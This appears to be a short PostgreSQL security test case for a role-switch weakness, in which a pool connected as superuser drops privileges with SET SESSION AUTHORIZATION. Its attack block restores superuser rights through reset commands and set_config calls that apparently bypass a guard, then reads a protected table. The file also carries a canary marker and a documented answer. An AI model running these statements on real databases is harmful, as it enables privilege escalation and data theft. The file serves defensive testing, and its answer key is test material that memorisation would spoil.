-- title: a pool logs in as a superuser and lowers itself by SET SESSION AUTHORIZATION; the attacker resets it
-- class: role-switch
-- severity: critical
-- kind: dynamic
-- leaks: attack /CANARY_B/
-- answer: documented: a superuser who logged in is a superuser until the end; connect as the application's role
-- role: postgres

--@ attack
set session authorization app;
:enter_a
reset session authorization;  -- which the guard refuses, but no hook sees set_config
reset role;
select set_config('session_authorization', 'postgres', false);
select set_config('role', 'none', false);
select * from app.doc;
commit;
